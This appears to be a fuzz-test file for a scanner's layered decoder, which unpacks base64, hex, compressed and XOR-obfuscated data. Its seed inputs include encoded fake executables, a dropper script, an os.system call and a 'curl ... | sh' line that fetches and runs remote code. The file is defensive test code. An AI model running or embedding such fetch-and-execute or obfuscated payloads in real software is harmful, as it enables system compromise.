/**
 * The layered decoder (src/decode): base64/base32/hex runs, zlib/gzip/bzip2 layers, repeating-key XOR, then
 * classification. inspectBlob and findEncodedRuns must not throw (inspectBlob's own catch-all is a bug here: it turns a
 * crash into "not fully inspected"), keep their bounds, and the strings/entropy analyzers must handle the same bytes.
 */
import { inspectBlob, findEncodedRuns } from '../../../src/decode/index.js';
import { b32, b64, concat, DROPPER_PY, fakeELF, fakePE, gzipped, hex, telnyx, utf8, wrap, xor, zlibbed, bytes } from '../../helpers/payloads.js';
import { checkFile, noThrow } from '../checks.js';
import { ensure, type FuzzTarget } from '../harness.js';

const MAX_OUT = 256 * 1024;
const MAX_DEPTH = 4;
const MAX_RUNS = 8;
const MAX_DECODE = 64 * 1024;

function seeds(): Uint8Array[] {
  const pe = fakePE(600);
  return [
    utf8(`payload = "${b64(zlibbed(pe))}"\n`),
    utf8(wrap(b64(telnyx(fakeELF(400))))),
    utf8(`data = bytes.fromhex("${hex(xor(utf8(DROPPER_PY), bytes('k3y')))}")`),
    utf8(`x = "${b32(gzipped(utf8(DROPPER_PY)))}"`),
    concat('PK\x03\x04', b64(utf8('import os; os.system("id")'))),
    zlibbed(utf8('#!/bin/sh\ncurl http://198.51.100.1/x | sh\n'.repeat(4))),
  ];
}

export const decodeTargets: FuzzTarget[] = [
  {
    name: 'decode',
    seeds,
    dict: ['=', '==', '\n', 'eJ', 'H4sI', 'QlpoOTFBWSZTW', 'TVqQ', 'f0VMRg', '4d5a', '7f454c46', 'x\x9c', '\x1f\x8b\x08', 'BZh9'],
    check: async (d) => {
      const v = inspectBlob(d, { maxOutput: MAX_OUT, maxDepth: MAX_DEPTH, maxXorAttempts: 64 });
      ensure(!v.summary.startsWith('not fully inspected'), () => `inspectBlob caught its own crash: ${v.summary}`);
      ensure(v.danger >= 0 && v.danger <= 1, `danger ${v.danger}`);
      ensure(v.layers.length <= MAX_DEPTH + 2, `${v.layers.length} layers (max depth ${MAX_DEPTH})`);
      ensure(v.size <= Math.max(d.length, MAX_OUT), `decoded ${v.size} bytes (cap ${MAX_OUT})`);
      ensure(v.preview.length <= 4096, `preview of ${v.preview.length} characters`);
      const runs = noThrow('findEncodedRuns', () => findEncodedRuns(d, 16, MAX_RUNS, { maxDecode: MAX_DECODE }));
      ensure(runs.length <= MAX_RUNS, `${runs.length} runs (cap ${MAX_RUNS})`);
      for (const r of runs) {
        ensure(r.offset >= 0 && r.offset + r.length <= d.length, `run ${r.offset}+${r.length} outside ${d.length} bytes`);
        ensure(r.decoded.length <= MAX_DECODE, `run decoded to ${r.decoded.length} bytes (cap ${MAX_DECODE})`);
      }
      await checkFile('pkg/data.bin', d);
      await checkFile('pkg/notes.txt', d);
    },
  },
];
